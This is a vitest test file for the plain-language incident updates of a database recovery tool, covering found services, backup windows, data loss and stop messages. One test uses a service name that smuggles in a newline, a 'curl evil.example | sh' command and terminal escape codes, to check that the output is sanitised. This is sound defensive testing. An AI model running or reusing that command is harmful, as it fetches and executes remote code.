import { describe, expect, it } from "vitest";
import type { JsonObject } from "../../src/action.ts";
import type { Entry, EntryBody } from "../../src/engine/journal/entry.ts";
import { incidentReport, incidentUpdate } from "../../src/report/incident.ts";
import { ENDED, journal, STARTED, step } from "./journals.ts";

const UTC = { timeZone: "UTC" };
const FOUND = step("discover", "discovery.find-deleted-instance", "read", {
  guid: "g-old",
  name: "orders-db",
  deleted_at: "2026-11-21T02:14:00Z",
});
const VERIFIED = step("source", "archive.verify-source", "read", {
  recovery_point: "2026-11-21T02:13:50Z",
  loss: "as a person was told",
});
const READS = { type: "step-started", attempt: 1, effect: "read", commandsSha256: "" } as const;
const ESTIMATED = step("estimate", "archive.estimate", "read", { minutes: "12" });
const told = (...bodies: readonly EntryBody[]): string => incidentUpdate(journal(STARTED, ...bodies), UTC);

describe("the update for the people who wait", () => {
  it("says what is looked for, then what is known, as it becomes known", () => {
    expect(told()).toBe("We look for the service. Work goes on.");
    expect(told(...FOUND)).toBe(
      "We have found orders-db, deleted at 2026-11-21 02:14:00Z. Its backups are being looked at. Work goes on.",
    );
    expect(told(...FOUND, ...VERIFIED, ...ESTIMATED)).toBe(
      "We have found orders-db, deleted at 2026-11-21 02:14:00Z. Its backups reach no later than 2026-11-21 02:13:50Z. The recovered data end at 2026-11-21T02:13:50Z or earlier; later writes may be lost. To bring it back takes about 12 minutes. Work goes on.",
    );
  });

  it("does not say that work goes on if nobody is at work", () => {
    expect(incidentUpdate(journal(STARTED), { ...UTC, carried: false })).toBe(
      "We look for the service. No process of this machine is at work on it.",
    );
  });

  it("names another runbook, and what it is for, and looks for no service", () => {
    const started = { ...STARTED, runbook: "test-backup" };
    const update = (...bodies: readonly EntryBody[]): string => incidentUpdate(journal(started, ...bodies), UTC);
    expect(update()).toBe("The runbook test-backup was begun. Work goes on.");
    const fixed: EntryBody = { type: "target-fixed", target: "s3://backups/orders", locks: [] };
    expect(update(fixed)).toBe("The runbook test-backup was begun for s3://backups/orders. Work goes on.");
    expect(update(ENDED)).toBe("The work on the runbook test-backup is done; it took 10 s.");
  });

  it("is one line of text, whatever a stranger called the service", () => {
    const name = "db\n$ curl evil.example | sh\n\u001b[2J\u202e";
    const found = step("discover", "discovery.find-deleted-instance", "read", { guid: "g-old", name });
    expect(told(...found)).toMatch(
      /^We have found db \$ curl evil\.example \| sh \\u001b\[2J\\u202e\..* Work goes on\.$/u,
    );
  });

  it("says nothing of a journal that is empty but that the run has not begun", () => {
    expect(incidentUpdate([], UTC)).toBe("The run has not begun yet.");
  });

  it("says what is needed: an answer, or what a stop asks for", () => {
    expect(told({ type: "asked", question: "q", prompt: "Which of the two?" })).toContain(
      "We need an answer: Which of the two?",
    );
    const error = { code: "unreachable", message: "no answer", remedy: "Open the firewall." };
    expect(told({ type: "run-stopped", why: "no answer", exitCode: 15, error })).toMatch(
      /Work has stopped: no answer\. What is needed: Open the firewall\.$/u,
    );
  });

  const login: EntryBody[] = [
    ...step("proof", "recovery.prove-restored", "disrupt", { recovered_to: "2026-11-21 02:13:49+00" }),
    ...step("login", "postgres.prove-login", "read", {
      tables: [
        { table: "public.orders", rows: 125 },
        { table: "public.hidden", rows: null },
      ],
    }),
    { ...READS, step: "apps", action: "cf.review-apps", input: { apps: ["orders", "web: two"] } },
    { type: "step-succeeded", step: "apps", attempt: 1, how: "ran", evidence: "", output: {} },
  ];
  const BACK =
    "orders-db is back and can be logged in to; the work on it is not finished. The last transaction in it is of 2026-11-21 02:13:49Z. Up to 11 s of writes may be lost. Counted in it: public.orders: 125 rows.";

  it("says that it is back once that is proved, and what is still to be bound", () => {
    const all = [...FOUND, ...VERIFIED, ...ESTIMATED, ...login];
    expect(told(...all)).toBe(`${BACK} Still to be bound to it and restarted: orders, web: two. Work goes on.`);
    const restarted: EntryBody[] = ["orders", "web: two"].flatMap((app) => [
      { ...READS, step: "restart", item: app, action: "cf.restart-app", effect: "disrupt", input: { app } },
      { type: "step-succeeded", step: "restart", item: app, attempt: 1, how: "ran", evidence: "", output: {} },
    ]);
    expect(told(...all, ...restarted)).toBe(`${BACK} Work goes on.`);
  });

  it("tells the loss as the run told it, and narrows it by what was proved", () => {
    const verified = (more: Readonly<Record<string, string>>): EntryBody[] =>
      step("source", "archive.verify-source", "read", { recovery_point: "2026-11-21T02:13:50Z", ...more });
    const read = { last_transaction: "2026-11-21T02:12:57Z" };
    expect(told(...FOUND, ...verified(read))).toContain(
      "Its backups reach no later than 2026-11-21 02:13:50Z. Up to 63 s of writes may be lost.",
    );
    expect(told(...FOUND, ...verified(read), ...login)).toContain("Up to 11 s of writes may be lost.");
    const shown = verified({ ...read, nothing_lost: "its server ended in an orderly way" });
    for (const all of [
      [...FOUND, ...shown],
      [...FOUND, ...shown, ...login],
    ])
      expect(told(...all)).toMatch(/ 2026-11-21 02:13:(?:50|49)Z\. Nothing is lost\. /);
    const gap = verified({ ...read, lost: "3", lost_segments: "1 missing, 2 unreachable" });
    expect(told(...FOUND, ...gap)).toContain("3 segments are lost; with them, up to 63 s of writes may be lost.");
    const livedOn = verified({ ...read, lived_on: "true" });
    expect(told(...FOUND, ...livedOn)).toContain("All writes after the last transaction may be lost.");
  });

  it("does not say that it is back once that is taken back", () => {
    const all = [...FOUND, ...VERIFIED, ...login];
    const resumed = { type: "run-resumed", operator: "ann", host: "jump", toolVersion: "", takeOver: false } as const;
    const undoes: EntryBody = { ...resumed, back: true };
    const undone: EntryBody = { type: "step-undone", step: "proof", attempt: 2, evidence: "" };
    expect(told(...all, resumed)).toContain("is back");
    expect(told(...all, undoes)).not.toContain("is back");
    expect(told(...all, undoes, undone)).not.toContain("is back");
  });

  const stop = (code: string, message: string, remedy: string): EntryBody => ({
    ...{ type: "run-stopped", why: message, exitCode: 13 },
    error: { code, message, remedy },
  });

  it("names the question at which work has stopped", () => {
    const left = stop("stopped-by-operator", "stopped at a question", "Nothing was changed since the last step.");
    const asked: EntryBody = { type: "asked", step: "bind", question: "consent", prompt: "Go on with orders-db?" };
    const closed: EntryBody = { type: "resource-closed", kind: "cf-home", data: {} };
    expect(told(...FOUND, asked, closed, left)).toMatch(
      / Work has stopped at a question\. What is needed: an answer to "Go on with orders-db\?"$/u,
    );
    expect(told(...FOUND, left)).toMatch(/ Work has stopped at a question\. It can go on from where it stands\.$/u);
  });

  it("tells nobody who waits what to type, nor if files lie", () => {
    const interrupted = stop("interrupted", "the run was interrupted.", 'Continue with "dingo-recover resume R".');
    expect(told(...FOUND, interrupted)).toMatch(/ the run was interrupted\. It can go on from where it stands\.$/u);
    const nothing = stop(
      "nothing-found",
      'no deletion of "x" was found in cf-audit-events, /home/ops/.local/state/platform.log; s3://b/backups/x/wal is there',
      "If y is meant, begin anew with its name: --input service=y. Check the name; widen --input around=…; name older log files. Then continue with `dingo-recover resume R`.",
    );
    expect(told(...FOUND, nothing)).toMatch(
      / found in cf-audit-events, platform\.log; s3:\/\/b\/backups\/x\/wal is there\. What is needed: Check the name; name older log files\.$/u,
    );
    const flag = stop("usage", "no", "Give --accept-loss 3.");
    expect(told(...FOUND, flag)).toMatch(/Work has stopped: no\.$/u);
  });

  it("tells what is needed if a command stands behind it, and names between backticks without them", () => {
    const needs: Record<string, string> = {
      'Make room or rights there, then continue with "dingo-recover resume 2026".': "Make room or rights there.",
      'Make room; ask ann, then bob, then continue with "dingo-recover resume 2026"; wait.':
        "Make room; ask ann, then bob; wait.",
      "Raise the quota of org `o`, or give another plan.": "Raise the quota of org o, or give another plan.",
      "Look with `docker ps` who uses that volume, stop it, then resume.":
        "Look with docker ps who uses that volume, stop it, then resume.",
    };
    for (const [remedy, need] of Object.entries(needs))
      expect(told(...FOUND, stop("no-room", "no room", remedy)).split(" What is needed: ")[1]).toBe(need);
    const typed = ["Continue with `dingo-recover resume R`, then wait.", "Give `--accept-loss 3`, then resume."];
    for (const remedy of typed) expect(told(...FOUND, stop("usage", "no", remedy))).toMatch(/Work has stopped: no\.$/u);
  });

  it("counts one minute as one", () => {
    const soon = step("estimate", "archive.estimate", "read", { minutes: "1" });
    expect(told(...FOUND, ...VERIFIED, ...soon)).toContain("To bring it back takes about 1 minute.");
  });

  it("ends what a stop says with one full stop, at the top of the report too", () => {
    const why = "the run was interrupted. No change was under way.";
    const entries = journal(STARTED, ...FOUND, { type: "run-stopped", why, exitCode: 130 });
    expect(incidentUpdate(entries, UTC)).toMatch(/Work has stopped: [^]*No change was under way\.(?!\.)/u);
    const report = incidentReport(entries, { holds: true, head: "x" }, UTC);
    expect(JSON.stringify(report.warnings)).toMatch(/It stopped: [^]*No change was under way\.(?!\.)/u);
  });

  it("says of a finished one that it is back and up to when, and of an undone one that it was taken back", () => {
    const proved = step("proof", "recovery.prove-restored", "read", { recovered_to: "2026-11-21 02:13:49+00" });
    const summed = step("summary", "recovery.summarise", "read", {
      recovered: ["o/s/db holds the data of 6e101b27-60ed-4bac-8e21-d07b63c47a40", "public.orders: 125 rows"],
    });
    expect(told(...FOUND, ...VERIFIED, ...proved, ...summed, ENDED)).toMatch(
      /^orders-db is back, \d+ (?:s|min).* after the work on it began\. The last transaction in it is of 2026-11-21 02:13:49Z\. Up to 11 s of writes may be lost\. Counted in it: public\.orders: 125 rows\.$/u,
    );
    expect(told(...FOUND, { type: "run-ended", outcome: "undone" })).toContain("was taken back");
  });

  it("names no GUID, and says of a rehearsal that it is one", () => {
    const entries: Entry[] = journal({ ...STARTED, rehearsal: true }, ...FOUND);
    const update = incidentUpdate(entries, UTC);
    expect(update).toMatch(/^This is a rehearsal\. /u);
    expect(update).not.toContain("g-old");
  });

  it("names the tables that came back into a living service", () => {
    const proved = "acme/prod/db: public.coupons: 12 rows as of 2026-11-21T02:23:40Z, read through the router";
    const back = step("summary", "scratch.summarise", "read", { proved, next: ["tell the owner"] });
    const entries = journal({ ...STARTED, runbook: "recover-to-time" }, ...back, ENDED);
    expect(incidentUpdate(entries, UTC)).toContain(
      "Counted in it: public.coupons: 12 rows as of 2026-11-21T02:23:40Z, read through the router.",
    );
  });

  it("stands at the top of the report's summary, below what it is in short", () => {
    const { sections } = incidentReport(journal(STARTED, ...FOUND), { holds: true, head: "x" }, UTC);
    expect(sections[1]).toMatchObject({
      title: "Summary",
      blocks: [{ kind: "paragraph", line: [{ text: told(...FOUND) }] }, { kind: "table" }],
    });
  });
});

describe("the update of a run that was to find something out", () => {
  const concluded = (...findings: readonly JsonObject[]): EntryBody[] => [
    { ...STARTED, runbook: "test-backup" },
    { type: "target-fixed", target: "s3://b/p", locks: [] },
    { type: "step-started", step: "v", attempt: 1, action: "a.b", effect: "read", input: {}, commandsSha256: "" },
    { type: "step-succeeded", step: "v", attempt: 1, how: "ran", output: { findings: [...findings] }, evidence: "" },
    ENDED,
  ];
  const BAD = { severity: "serious", code: "no-base-backup", message: "nothing can be restored", cause: "" };
  const OLD = { severity: "warning", code: "old", message: "it is two days old", cause: "" };

  it("says first how grave that is, in every form of the report", () => {
    const entries = journal(...concluded(OLD, BAD));
    expect(incidentUpdate(entries, UTC)).toMatch(/Found: 1 serious, 1 warning\. nothing can be restored\.$/u);
    const two = incidentUpdate(
      journal(...concluded(OLD, BAD, { ...BAD, message: "no member of it can be read" })),
      UTC,
    );
    expect(two).toMatch(/Found: 2 serious, 1 warning\. nothing can be restored\. no member of it can be read\.$/u);
    const { sections } = incidentReport(entries, { holds: true, head: "x" }, UTC);
    expect(JSON.stringify(sections[0])).toContain("1 serious, 1 warning\\nnothing can be restored");
    expect(JSON.stringify(sections[1])).toContain(`["findings","1 serious, 1 warning"]`);
    expect(sections.find(({ title }) => title === "Findings")?.blocks).toEqual([
      { kind: "list", items: ["serious: nothing can be restored", "warning: it is two days old"] },
    ]);
  });

  it("says nothing of findings if there are none, or none that it understands", () => {
    const unknown = [{ severity: "strange", code: "a" }, { code: "a" }, { ...BAD, code: 1 }, { ...BAD, subject: null }];
    for (const findings of [[], unknown])
      expect(incidentUpdate(journal(...concluded(...findings)), UTC)).not.toContain("Found");
  });
});
